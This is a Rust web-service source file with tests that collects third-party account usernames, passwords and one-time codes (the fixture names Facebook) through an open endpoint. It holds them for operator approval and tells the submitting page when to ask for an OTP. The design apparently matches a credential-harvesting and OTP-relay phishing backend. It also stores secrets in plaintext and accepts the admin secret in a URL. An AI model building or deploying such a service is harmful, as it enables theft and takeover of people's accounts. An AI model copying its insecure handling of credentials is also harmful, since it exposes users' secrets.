use axum::{
    extract::{Path, Query, State},
    http::{HeaderMap, StatusCode},
    response::IntoResponse,
    Json,
};
use serde::{Deserialize, Serialize};
use serde_json::json;

use crate::api::error_response;
use crate::auth::authorize_admin;
use crate::domain::LoginStatus;
use crate::models::pending_login;
use crate::services::NewPendingLogin;
use crate::state::AppState;

#[derive(Deserialize)]
pub struct SubmissionRequest {
    platform: String,
    username: String,
    password: String,
    otp: Option<String>,
    note: Option<String>,
    profile_ref: Option<String>,
}

#[derive(Serialize)]
pub struct SubmissionResponse {
    pub id: String,
    /// Every submission goes through admin review in this design
    pub requires_approval: bool,
    /// True when an OTP was supplied up front but is still awaiting review
    pub otp_pending: bool,
}

#[utoipa::path(
    post,
    path = "/api/relay/submissions",
    responses(
        (status = 201, description = "Submission registered for review"),
        (status = 422, description = "Missing required fields")
    )
)]
pub async fn create_submission(
    State(state): State<AppState>,
    Json(payload): Json<SubmissionRequest>,
) -> impl IntoResponse {
    let otp_supplied = payload.otp.as_deref().is_some_and(|o| !o.is_empty());

    let created = match state
        .store
        .create(NewPendingLogin {
            platform: payload.platform,
            username: payload.username,
            password: payload.password,
            otp: payload.otp,
            note: payload.note,
            profile_ref: payload.profile_ref,
        })
        .await
    {
        Ok(record) => record,
        Err(e) => return error_response(e).into_response(),
    };

    (
        StatusCode::CREATED,
        Json(SubmissionResponse {
            id: created.id,
            requires_approval: true,
            otp_pending: otp_supplied,
        }),
    )
        .into_response()
}

/// Map a stored record onto the caller-facing status vocabulary.
pub(crate) fn caller_status(record: &pending_login::Model) -> &'static str {
    match record.status() {
        LoginStatus::Denied | LoginStatus::Failed => "failed",
        LoginStatus::Pending => "pending",
        LoginStatus::OtpRequired => "otp",
        LoginStatus::Approved => {
            if record.requires_otp {
                "otp"
            } else {
                "success"
            }
        }
    }
}

#[utoipa::path(
    get,
    path = "/api/relay/submissions/{id}/status",
    responses(
        (status = 200, description = "Caller-facing status for one submission"),
        (status = 404, description = "Unknown submission id")
    )
)]
pub async fn get_status(
    State(state): State<AppState>,
    Path(id): Path<String>,
) -> impl IntoResponse {
    match state.store.get(&id).await {
        Ok(record) => (
            StatusCode::OK,
            Json(json!({
                "status": caller_status(&record),
                "requires_otp": record.requires_otp,
            })),
        )
            .into_response(),
        Err(e) => error_response(e).into_response(),
    }
}

/// Generic session-status read, the fallback poll target when the caller
/// has no job id. Reports on the most recent submission.
pub async fn get_session_status(State(state): State<AppState>) -> impl IntoResponse {
    match state.store.list(None).await {
        Ok(records) => match records.first() {
            Some(record) => (
                StatusCode::OK,
                Json(json!({
                    "status": caller_status(record),
                    "requires_otp": record.requires_otp,
                })),
            )
                .into_response(),
            None => (
                StatusCode::OK,
                Json(json!({ "status": "pending", "requires_otp": false })),
            )
                .into_response(),
        },
        Err(e) => error_response(e).into_response(),
    }
}

#[derive(Deserialize)]
pub struct ListQuery {
    status: Option<String>,
    secret: Option<String>,
}

#[utoipa::path(
    get,
    path = "/api/relay/submissions",
    responses(
        (status = 200, description = "Snapshot of relay jobs, newest first"),
        (status = 401, description = "Missing or mismatched admin secret")
    )
)]
pub async fn list_submissions(
    State(state): State<AppState>,
    headers: HeaderMap,
    Query(query): Query<ListQuery>,
) -> impl IntoResponse {
    if let Err(e) = authorize_admin(
        state.admin_secret.as_deref(),
        &headers,
        query.secret.as_deref(),
        None,
    ) {
        return error_response(e).into_response();
    }

    let filter = match query.status.as_deref() {
        None => None,
        Some(raw) => match LoginStatus::parse(raw) {
            Some(status) => Some(status),
            None => {
                return (
                    StatusCode::UNPROCESSABLE_ENTITY,
                    Json(json!({ "error": format!("unknown status '{}'", raw) })),
                )
                    .into_response();
            }
        },
    };

    match state.store.list(filter).await {
        Ok(records) => (StatusCode::OK, Json(records)).into_response(),
        Err(e) => error_response(e).into_response(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn record(status: &str, requires_otp: bool) -> pending_login::Model {
        pending_login::Model {
            id: "abc".to_string(),
            platform: "facebook".to_string(),
            username: "a@x.com".to_string(),
            password: "p".to_string(),
            otp: None,
            status: status.to_string(),
            note: None,
            profile_ref: None,
            requires_otp,
            job_error: None,
            created_at: "2024-01-01T00:00:00Z".to_string(),
            updated_at: "2024-01-01T00:00:00Z".to_string(),
        }
    }

    #[test]
    fn test_caller_status_mapping() {
        assert_eq!(caller_status(&record("pending", false)), "pending");
        assert_eq!(caller_status(&record("otp_required", false)), "otp");
        assert_eq!(caller_status(&record("denied", false)), "failed");
        assert_eq!(caller_status(&record("failed", false)), "failed");
        assert_eq!(caller_status(&record("approved", false)), "success");
    }

    #[test]
    fn test_approved_with_challenge_maps_to_otp() {
        assert_eq!(caller_status(&record("approved", true)), "otp");
    }
}
